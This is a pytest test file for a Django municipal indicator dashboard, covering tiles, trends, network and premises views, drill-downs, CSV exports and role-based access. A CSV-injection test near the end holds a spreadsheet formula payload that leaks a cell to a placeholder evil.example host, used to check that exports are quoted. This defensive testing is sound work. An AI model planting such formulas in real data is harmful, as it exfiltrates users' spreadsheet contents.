import datetime
import json
import re

import pytest
from django.urls import reverse

from apps.accounts.roles import Role
from apps.accounts.services import role_grant
from apps.indicators.models import IndicatorValue, PeriodKind, Scope
from apps.initiatives.models import Initiative
from tests.clients import UserClient
from tests.dashboards.conftest import LAST_MONTH, make_initiative, monthly_values
from tests.downloads import csv_rows
from tests.indicators.factories import IndicatorRunFactory, IndicatorValueFactory, SectorTieFactory, catalogue_indicator
from tests.sectors.factories import SectorFactory, UnitFactory

pytestmark = pytest.mark.django_db

OVERVIEW = reverse("dashboards:overview")
TRENDS = reverse("dashboards:trends")
NETWORK = reverse("dashboards:network")
PREMISES = reverse("dashboards:premises")


def tile_html(content: str, code: str) -> str:
    return content.split(f'id="tile-{code}"', 1)[1].split("</li>", 1)[0]


def test_the_overview_shows_each_indicator_with_its_change_judged_by_its_direction(manager_client, city_year):
    response = manager_client.get(OVERVIEW)

    content = response.content.decode()
    assert response.status_code == 200
    assert "October 2026" in content  # the newest period with values is the default
    rising_good = tile_html(content, "cross_sector_share")
    assert "32.0 %" in rising_good and "+2.0 pp" in rising_good and "change--better" in rising_good
    assert "How many of the ongoing initiatives bring together at least two sectors." in rising_good
    assert '<details class="formula">' in rising_good and "÷ all active initiatives of the period" in rising_good
    falling_good = tile_html(content, "key_person_risk")
    assert "39.0 %" in falling_good and "−1.0 pp" in falling_good and "change--better" in falling_good
    assert "change--worse" in tile_html(content, "civic_involvement")
    days = tile_html(content, "time_to_partner")
    assert "46 days" in days and "+6 days" in days and "worse" in days
    assert "change--same" in tile_html(content, "bus_factor")
    assert "<polyline" in rising_good  # the sparkline of the last 12 months
    assert "Last 12 periods: lowest 10.0 %, highest 32.0 %" in rising_good  # its scale


def test_tiles_are_grouped_by_theme(manager_client, city_year):
    content = manager_client.get(OVERVIEW).content.decode()

    headings = re.findall(r'<h2 id="theme-(\w+)"', content)
    assert headings == ["silos", "money", "people", "premises", "strategy", "trust"]
    assert content.index('id="theme-people"') < content.index('id="tile-key_person_risk"')
    assert content.index('id="tile-key_person_risk"') < content.index('id="theme-premises"')


def test_indicators_without_values_say_no_data_yet(manager_client, city_year):
    content = manager_client.get(OVERVIEW).content.decode()

    premises_tile = tile_html(content, "space_utilisation")
    assert "No data yet" in premises_tile
    assert "<a href" not in premises_tile.split("</h3>")[0]


def test_numbers_and_periods_follow_the_active_language(manager_client, city_year):
    manager_client.cookies["django_language"] = "fi"

    content = manager_client.get(OVERVIEW).content.decode()

    tile = tile_html(content, "cross_sector_share")
    assert "32,0 %" in tile
    assert "+2,0 %-yks." in tile
    assert "lokakuu 2026" in content.lower()
    assert "Monialaiset hankkeet" in tile


def test_a_shares_numerator_and_denominator_carry_thousands_separators(manager_client):
    # given a share of 247,500 out of 405,500 (e.g. euros of joint funding)
    indicator = catalogue_indicator("joint_funding_share")
    IndicatorValueFactory(
        indicator=indicator,
        scope=Scope.CITY,
        scope_id=0,
        period_kind=PeriodKind.MONTH,
        period_start=LAST_MONTH,
        value=247_500 / 405_500,
        numerator=247_500,
        denominator=405_500,
    )

    english = tile_html(manager_client.get(OVERVIEW).content.decode(), "joint_funding_share")
    manager_client.cookies["django_language"] = "fi"
    finnish = tile_html(manager_client.get(OVERVIEW).content.decode(), "joint_funding_share")

    assert "247,500 of 405,500" in english
    assert "247\xa0500" in finnish and "405\xa0500" in finnish


def test_choosing_a_period_shows_that_period_and_keeps_it_in_the_url(manager_client, city_year):
    response = manager_client.get(OVERVIEW, {"period_kind": "month", "period": "2026-03-17"})

    content = response.content.decode()
    assert "March 2026" in content
    assert "18.0 %" in tile_html(content, "cross_sector_share")  # November 2025 + 4 months: 0.1 + 0.02 × 4
    assert '<option value="2026-03-01" selected>' in content
    assert "period=2026-03-01" in content  # the tab links and drill-downs share the period


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"period": "last tuesday"}, "Enter a valid date."),
        ({"period": "9999-12-01"}, "Enter a date between the years 1900 and 2100."),
        ({"period_kind": "fortnight"}, "Select a valid choice"),
        ({"sector": "not-a-number"}, "Select a valid choice"),
        ({"programme": "999999"}, "Select a valid choice"),
    ],
)
def test_bad_filter_values_are_form_errors(manager_client, city_year, params, message):
    response = manager_client.get(OVERVIEW, params)

    assert response.status_code == 200
    assert message in response.content.decode()


def test_a_sector_and_a_programme_together_is_a_form_error(manager_client, city_year, programme):
    sector = SectorFactory()

    response = manager_client.get(OVERVIEW, {"sector": sector.pk, "programme": programme.pk})

    assert response.status_code == 200
    assert "Choose a sector or a programme, not both." in response.content.decode()


def test_the_sector_view_shows_the_sectors_values_and_partners(manager_client, city_year):
    culture, education, social = SectorFactory(name="Culture"), SectorFactory(name="Education"), SectorFactory()
    monthly_values("cross_sector_share", [0.5, 0.75], scope=Scope.SECTOR, scope_id=culture.pk)
    SectorTieFactory(sector_a=culture, sector_b=education, initiatives=7, period_start=LAST_MONTH)
    SectorTieFactory(sector_a=culture, sector_b=social, initiatives=2, period_start=LAST_MONTH)
    SectorTieFactory(sector_a=education, sector_b=social, initiatives=9, period_start=LAST_MONTH)

    response = manager_client.get(OVERVIEW, {"sector": culture.pk})

    content = response.content.decode()
    assert "Sector: Culture" in content
    assert "75.0 %" in tile_html(content, "cross_sector_share")
    assert "network_density" not in content  # a city-only indicator has no sector tile
    partners = content.split('id="partners-heading"')[1].split("</table>")[0]
    assert re.findall(r">([^<>]+)</a></td><td class=\"number\">(\d+)<", partners) == [
        ("Education", "7"),
        (social.name, "2"),
    ]


def test_the_programme_view_shows_its_sectors(manager_client, city_year, programme):
    culture, youth = SectorFactory(name="Culture"), SectorFactory(name="Youth")
    programme.sectors.set([culture])
    monthly_values("culture_in_programmes", [0.4, 0.6], scope=Scope.PROGRAMME, scope_id=programme.pk)
    SectorTieFactory(
        sector_a=culture, sector_b=youth, programme_id=programme.pk, initiatives=3, period_start=LAST_MONTH
    )

    content = manager_client.get(OVERVIEW, {"programme": programme.pk}).content.decode()

    assert "Programme: Culture for wellbeing" in content
    assert "60.0 %" in tile_html(content, "culture_in_programmes")
    assert "Sectors in the programme" in content
    assert ">Youth</a>" in content and ">Culture</a>" in content


def test_the_overview_shows_the_last_computation_and_recompute_now(manager_client, city_year):
    IndicatorValue.objects.update(computed_at=datetime.datetime(2026, 10, 31, 2, 30, tzinfo=datetime.UTC))

    content = manager_client.get(OVERVIEW).content.decode()

    assert "Last computed at 31 Oct 2026" in content
    assert reverse("indicators:recompute") in content
    assert "Recompute now" in content


def test_the_overview_downloads_its_values_as_csv(manager_client, city_year):
    response = manager_client.get(OVERVIEW, {"download": "tiles"})

    rows = csv_rows(response)
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="silta-indicators-city-0-month-2026-10-01.csv"' in response["Content-Disposition"]
    assert rows[0][:5] == ["Code", "Indicator", "Theme", "Numerator", "Denominator"]
    assert rows[0][-1] == "2026-10-01"
    share = next(row for row in rows if row[0] == "cross_sector_share")
    assert [float(cell) for cell in share[3:5]] == [32, 100]
    assert float(share[-1]) == pytest.approx(0.32)


def test_trends_compare_sectors_in_a_chart_and_a_table(manager_client, city_year):
    culture, education = SectorFactory(name="Culture"), SectorFactory(name="Education")
    monthly_values("cross_sector_share", [0.5, 0.6], scope=Scope.SECTOR, scope_id=culture.pk)
    monthly_values("cross_sector_share", [0.2, 0.1], scope=Scope.SECTOR, scope_id=education.pk)

    response = manager_client.get(TRENDS, {"indicator": "cross_sector_share", "compare": "sector"})

    content = response.content.decode()

    # a small chart per sector, each with the city as its reference, all on one scale
    def chart(number: int) -> dict:
        script = rf'<script id="trend-data-{number}" type="application/json">(.*?)</script>'
        return json.loads(re.search(script, content)[1])

    culture_chart, education_chart = chart(1), chart(2)
    assert culture_chart["labels"][-1] == "October 2026" and len(culture_chart["labels"]) == 12
    assert [dataset["label"] for dataset in culture_chart["datasets"]] == ["Culture", "Whole city"]
    assert culture_chart["datasets"][1]["reference"] is True
    assert culture_chart["datasets"][0]["data"][-2:] == [0.5, 0.6]
    assert culture_chart["datasets"][0]["data"][0] is None
    assert education_chart["datasets"][0]["label"] == "Education"
    assert culture_chart["max"] == education_chart["max"] == pytest.approx(0.6)
    assert 'id="trend-data"' not in content
    table = content.split('id="trend-table"')[1].split("</table>")[0]
    assert '<th scope="row">Culture</th>' in table and "60.0 %" in table
    # the table reads newest first, so October is beside the names rather than off the right edge
    headers = re.findall(r'<th scope="col" class="number">([^<]+)</th>', table)
    assert headers[:2] == ["October 2026", "September 2026"]
    culture_row = table.split('<th scope="row">Culture</th>')[1].split("</tr>")[0]
    assert re.findall(r'<td class="number">([^<]+)</td>', culture_row)[:2] == ["60.0 %", "50.0 %"]


def test_trends_of_one_sector_and_their_csv(manager_client, city_year):
    culture, education = SectorFactory(name="Culture"), SectorFactory(name="Education")
    monthly_values("cross_sector_share", [0.6], scope=Scope.SECTOR, scope_id=culture.pk)
    monthly_values("cross_sector_share", [0.1], scope=Scope.SECTOR, scope_id=education.pk)

    response = manager_client.get(
        TRENDS, {"indicator": "cross_sector_share", "sector": culture.pk, "download": "trend"}
    )

    rows = csv_rows(response)
    assert [row[0] for row in rows] == ["Series", "Whole city", "Culture"]
    assert rows[2][-1] == "0.600"  # 60.0 % as on the page


def test_trends_refuse_a_comparison_the_indicator_does_not_have(manager_client, city_year):
    response = manager_client.get(TRENDS, {"indicator": "network_density", "compare": "programme"})

    assert response.status_code == 200
    assert "is not computed per programme" in response.content.decode()


def test_the_network_draws_sectors_and_ties_with_culture_marked(manager_client, settings):
    culture = SectorFactory(name="Culture", slug=settings.SILTA_CULTURE_SECTOR_SLUG)
    education, social = SectorFactory(name="Education"), SectorFactory(name="Social")
    monthly_values("cross_sector_share", [0.5], scope=Scope.SECTOR, scope_id=culture.pk)  # 100 initiatives
    SectorTieFactory(sector_a=culture, sector_b=education, initiatives=8, period_start=LAST_MONTH)
    SectorTieFactory(sector_a=education, sector_b=social, initiatives=2, period_start=LAST_MONTH)

    content = manager_client.get(NETWORK, {"period": "2026-10-01"}).content.decode()

    svg = content.split('<svg class="network"')[1].split("</svg>")[0]
    edges = svg.split('class="network__edges"')[1].split("</g>")[0]
    widths = [float(w) for w in re.findall(r'stroke-width="([\d.]+)"', edges)]
    assert len(widths) == 2
    assert widths[0] > widths[1]  # the edge with more shared initiatives is wider
    assert "url(#culture-hatch)" in svg  # culture is hatched, not only coloured
    assert "Culture (100) · culture" in svg
    assert "Culture – Education" in content and "Education – Social" in content


def test_the_network_of_one_programme_and_its_csv(manager_client, programme):
    culture, youth = SectorFactory(name="Culture"), SectorFactory(name="Youth")
    SectorTieFactory(
        sector_a=culture, sector_b=youth, programme_id=programme.pk, initiatives=3, period_start=LAST_MONTH
    )
    SectorTieFactory(sector_a=culture, sector_b=youth, programme_id=0, initiatives=11, period_start=LAST_MONTH)

    response = manager_client.get(NETWORK, {"period": "2026-10-01", "programme": programme.pk, "download": "ties"})

    assert csv_rows(response)[1:] == [["Culture", "Youth", "3"]]


def test_premises_show_utilisation_per_space_and_period(manager_client):
    monthly_values("space_utilisation", [0.25, 0.5], scope=Scope.SPACE, scope_id=7)
    monthly_values("space_utilisation", [0.3, 0.4])
    monthly_values("shared_space_use", [0.1, 0.2])

    response = manager_client.get(PREMISES)

    content = response.content.decode()
    assert "Space 7" in content and "50.0 %" in content
    chart = json.loads(re.search(r'<script id="premises-data" type="application/json">(.*?)</script>', content)[1])
    assert [dataset["data"][-1] for dataset in chart["datasets"]] == [0.4, 0.2]
    spaces = csv_rows(manager_client.get(PREMISES, {"download": "spaces"}))
    assert spaces[1][0] == "Space 7" and spaces[1][-2:] == ["0.250", "0.500"]


def _hourly(space_id: int, weekday: int, hour: int, hours: float) -> None:
    from django.utils import timezone

    from apps.indicators.models import SpaceHourUsage

    SpaceHourUsage.objects.create(
        period_kind="month",
        period_start=datetime.date(2026, 10, 1),
        space_id=space_id,
        weekday=weekday,
        hour=hour,
        booked_hours=hours,
        computed_at=timezone.now(),
    )


def test_premises_show_a_week_by_hour_heatmap_for_all_spaces_or_one(manager_client):
    from tests.premises.factories import SpaceFactory

    hall = SpaceFactory(name="Stoa hall")
    monthly_values("space_utilisation", [0.3])
    _hourly(0, weekday=0, hour=18, hours=8)  # all spaces: Mondays 18-19, 8 hours in October
    _hourly(0, weekday=2, hour=9, hours=2)
    _hourly(hall.pk, weekday=2, hour=9, hours=1.5)

    everything = manager_client.get(PREMISES, {"period": "2026-10-01"})
    one = manager_client.get(PREMISES, {"period": "2026-10-01", "space": hall.pk})
    rows = csv_rows(manager_client.get(PREMISES, {"period": "2026-10-01", "download": "heatmap"}))
    bad = manager_client.get(PREMISES, {"period": "2026-10-01", "space": "999999"})

    cells = re.findall(r'<td class="number heat heat--(\d)">([^<]*)</td>', everything.content.decode())
    assert len(cells) == 7 * 24
    assert cells[18] == ("4", "8") and cells[2 * 24 + 9] == ("1", "2")  # Monday 18 is the busiest
    assert "When Stoa hall is in use" in one.content.decode()
    assert re.findall(r'heat--(\d)">1.5<', one.content.decode()) == ["4"]
    assert rows[0][:3] == ["Weekday", "00", "01"] and rows[1][0] == "Monday" and rows[1][19] == "8"
    assert bad.status_code == 200 and bad.context["form"].errors["space"]


def test_premises_without_data_say_so(manager_client):
    content = manager_client.get(PREMISES).content.decode()

    assert "No data yet" in content


def test_a_tile_clicks_through_to_the_initiatives_behind_its_numerator(manager_client, city_year):
    culture, education = UnitFactory(sector=SectorFactory()), UnitFactory(sector=SectorFactory())
    make_initiative("Library in schools", [culture, education], start=datetime.date(2026, 9, 1))
    make_initiative("Own garden", [culture], start=datetime.date(2026, 9, 1))
    make_initiative("Later dialogue", [culture, education], start=datetime.date(2026, 11, 1))

    overview = manager_client.get(OVERVIEW).content.decode()
    link = re.search(r'<a href="([^"]+)">Cross-sector initiatives</a>', overview)[1].replace("&amp;", "&")
    response = manager_client.get(link)

    content = response.content.decode()
    assert link.startswith(reverse("dashboards:drilldown", args=["cross_sector_share"]))
    assert "1 initiative behind the number" in content
    assert '<details class="formula">' in content and "How is this computed?" in content
    assert "Library in schools" in content
    assert "Own garden" not in content and "Later dialogue" not in content


@pytest.mark.parametrize(
    ("language", "value", "change", "low"),
    [("en", "12,345", "+11,345", "1,000"), ("fi", "12\xa0345", "+11\xa0345", "1\xa0000")],
)
def test_large_numbers_use_the_languages_thousands_separator(manager_client, language, value, change, low):
    # given a count that grew from a thousand to over twelve thousand
    monthly_values("boundary_spanners", [1000.0] * 11 + [12345.0])

    # when the overview and the trend are read in the language
    overview = manager_client.get(OVERVIEW, HTTP_ACCEPT_LANGUAGE=language).content.decode()
    trend = manager_client.get(TRENDS, {"indicator": "boundary_spanners"}, HTTP_ACCEPT_LANGUAGE=language)

    # then the tile, its change and its sparkline's scale, and the trend table, group the thousands
    tile = tile_html(overview, "boundary_spanners")
    assert f'<p class="indicator-tile__value">{value}</p>' in tile
    assert change in tile and low in tile
    table = trend.content.decode().split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    assert f'<td class="number">{value}</td>' in table and f'<td class="number">{low}</td>' in table


def test_the_drilldown_pages_through_many_initiatives_and_downloads_them(manager_client):
    units = [UnitFactory(sector=SectorFactory()), UnitFactory(sector=SectorFactory())]
    for number in range(30):
        make_initiative(f"Joint work {number:02}", units, start=datetime.date(2026, 1, 1))
    url = reverse("dashboards:drilldown", args=["cross_sector_share"])

    first = manager_client.get(url, {"period": "2026-10-01"}).content.decode()
    second = manager_client.get(url, {"period": "2026-10-01", "page": 2}).content.decode()
    rows = csv_rows(manager_client.get(url, {"period": "2026-10-01", "download": "initiatives"}))

    assert "30 initiatives behind the number" in first
    assert "Joint work 24" in first and "Joint work 25" not in first
    assert "Joint work 29" in second and "Page 2 of 2" in second
    assert len(rows) == 31 and rows[1][:2] == ["Joint work 00", "Active"]
    first_initiative = Initiative.objects.get(title="Joint work 00")
    assert f'<a href="{reverse("initiatives:detail", args=[first_initiative.pk])}">Joint work 00</a>' in first


def test_indicators_without_initiatives_behind_them_have_no_drilldown(manager_client):
    response = manager_client.get(reverse("dashboards:drilldown", args=["meeting_breadth"]))

    assert response.status_code == 404


@pytest.mark.parametrize("url", [OVERVIEW, TRENDS, NETWORK, PREMISES, "/dashboards/indicators/cross_sector_share/"])
@pytest.mark.parametrize("role", [Role.OFFICIAL, Role.PROGRAMME_LEAD, Role.PREMISES_MANAGER])
def test_only_managers_and_admins_see_dashboards(client_for, url, role):
    client = client_for(role)

    response = client.get(url)

    assert response.status_code == 403
    assert "have access to this page" in response.content.decode()
    assert "Dashboards are for managers and administrators." in response.content.decode()


def test_admins_see_dashboards(client_for):
    client = client_for(Role.ADMIN)

    assert client.get(OVERVIEW).status_code == 200


def test_the_navigation_shows_dashboards_only_to_managers(client, make_user):
    client.force_login(make_user(Role.OFFICIAL))
    assert OVERVIEW not in client.get(reverse("home")).content.decode()

    client.force_login(make_user(Role.MANAGER))
    assert f'href="{OVERVIEW}"' in client.get(reverse("home")).content.decode()


def test_period_kinds_show_quarters_and_years(manager_client):
    from tests.indicators.factories import IndicatorValueFactory

    IndicatorValueFactory(period_kind=PeriodKind.QUARTER, period_start=datetime.date(2026, 7, 1))

    content = manager_client.get(OVERVIEW, {"period_kind": "quarter"}).content.decode()

    assert "Q3 2026" in content
    assert "30.0 %" in tile_html(content, "cross_sector_share")


def test_choosing_a_period_kind_swaps_the_period_list_at_once(manager_client, city_year):
    # given quarterly values besides the monthly ones
    for start in (datetime.date(2026, 4, 1), datetime.date(2026, 7, 1), datetime.date(2026, 10, 1)):
        IndicatorValueFactory(period_kind=PeriodKind.QUARTER, period_start=start)

    # when the manager picks "quarter" in the filters, htmx asks for that kind's periods
    page = manager_client.get(OVERVIEW).content.decode()
    options = manager_client.get(reverse("dashboards:period_options"), {"period_kind": "quarter"}).content.decode()

    # then the list holds the quarters, the last complete one first (Q4 2026 is still under way)
    assert f'hx-get="{reverse("dashboards:period_options")}"' in page
    assert 'hx-target="#id_period"' in page
    labels = re.findall(r"<option[^>]*>([^<]+)</option>", options)
    assert labels == ["Last complete (Q3 2026)", "Q4 2026", "Q3 2026", "Q2 2026"]
    assert "October 2026" not in options


def test_the_period_list_is_for_dashboard_viewers_only(client_for):
    response = client_for(Role.OFFICIAL).get(reverse("dashboards:period_options"), {"period_kind": "year"})

    assert response.status_code == 403


def test_a_run_under_way_shows_its_progress_on_the_dashboard(manager_client, city_year):
    run = IndicatorRunFactory(status="running", jobs_total=4, jobs_done=["a:month"], finished_at=None, started_at=None)

    content = manager_client.get(OVERVIEW).content.decode()

    assert f'id="run-{run.pk}"' in content
    assert reverse("indicators:run_status", args=[run.pk]) in content
    assert "25 %" in content


def test_only_the_newest_run_counts_as_under_way(manager_client, city_year):
    # an old run a lost worker left running, then a newer run that failed
    IndicatorRunFactory(status="running", jobs_total=4, finished_at=None)
    IndicatorRunFactory(status="failed", finished_at=datetime.datetime(2026, 11, 2, 3, 0, tzinfo=datetime.UTC))

    content = manager_client.get(OVERVIEW).content.decode()

    assert 'id="run-' not in content
    assert "Recompute now" in content


def test_values_computed_without_a_run_count_as_computed(manager_client, city_year):
    # ``compute_indicators --sync`` (as ``make run`` does) writes values without recording a run
    IndicatorValue.objects.update(computed_at=datetime.datetime(2026, 11, 20, 9, 0, tzinfo=datetime.UTC))

    content = manager_client.get(OVERVIEW).content.decode()

    assert "Last computed at 20 Nov 2026" in content
    assert "have not been computed yet" not in content


def test_before_any_computation_the_overview_says_so(manager_client):
    content = manager_client.get(OVERVIEW).content.decode()

    assert "The indicators have not been computed yet." in content


def test_a_sector_tile_keeps_the_sector_in_its_drilldown_and_trend_links(manager_client, city_year):
    culture = SectorFactory(name="Culture")
    monthly_values("cross_sector_share", [0.5, 0.75], scope=Scope.SECTOR, scope_id=culture.pk)

    tile = tile_html(manager_client.get(OVERVIEW, {"sector": culture.pk}).content.decode(), "cross_sector_share")

    query = f"period_kind=month&amp;period=2026-10-01&amp;sector={culture.pk}"
    assert f'{reverse("dashboards:drilldown", args=["cross_sector_share"])}?{query}"' in tile
    assert f'{TRENDS}?indicator=cross_sector_share&amp;{query}"' in tile


def test_a_bad_value_keeps_the_other_filters(manager_client, city_year):
    content = manager_client.get(OVERVIEW, {"period": "2026-03-01", "sector": "999999"}).content.decode()

    assert "Select a valid choice" in content
    assert "March 2026" in content
    assert "18.0 %" in tile_html(content, "cross_sector_share")


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(manager_client):
    units = [UnitFactory(sector=SectorFactory()), UnitFactory(sector=SectorFactory())]
    make_initiative('=HYPERLINK("http://example.org")', units, start=datetime.date(2026, 1, 1))
    url = reverse("dashboards:drilldown", args=["cross_sector_share"])

    rows = csv_rows(manager_client.get(url, {"period": "2026-10-01", "download": "initiatives"}))

    assert rows[1][0] == '\'=HYPERLINK("http://example.org")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_programme_cell_that_a_spreadsheet_would_run_is_quoted(manager_client, start):
    # Given an initiative of a programme whose name a spreadsheet would run (the cell holds the Programme itself)
    from tests.programmes.factories import ProgrammeFactory

    name = f'{start}HYPERLINK("http://evil.example/?d="&A2,"Open")'
    units = [UnitFactory(sector=SectorFactory()), UnitFactory(sector=SectorFactory())]
    make_initiative("Library in schools", units, start=datetime.date(2026, 1, 1), programme=ProgrammeFactory(name=name))
    url = reverse("dashboards:drilldown", args=["cross_sector_share"])

    # When the drill-down is downloaded
    rows = csv_rows(manager_client.get(url, {"period": "2026-10-01", "download": "initiatives"}))

    # Then the programme's name is text, and an initiative without an end date has an empty cell
    assert rows[1] == ["Library in schools", "Active", "2026-01-01", "", f"'{name}"]


def test_a_manager_scoped_to_a_sector_sees_that_sectors_detail_and_the_whole_city(client_for, make_user, city_year):
    # Given two sectors and a manager whose role is scoped to the first
    mine, other = SectorFactory(), SectorFactory()
    scoped = make_user()
    role_grant(by=None, user=scoped, role=Role.MANAGER, scope=mine)
    client = UserClient(scoped)
    url = reverse("dashboards:overview")

    # When they open the city, their sector and another sector
    city = client.get(url)
    own = client.get(url, {"sector": mine.pk})
    refused = client.get(url, {"sector": other.pk})
    everyone = client_for(Role.MANAGER).get(url, {"sector": other.pk})

    # Then the city and their sector show, the other sector falls back to the city with the field's message,
    # and a city-wide manager still sees every sector
    assert city.status_code == own.status_code == refused.status_code == 200
    assert own.context["filters"]["sector"] == mine
    assert refused.context["filters"]["sector"] is None
    assert "sector" in refused.context["form"].errors
    assert everyone.context["filters"]["sector"] == other
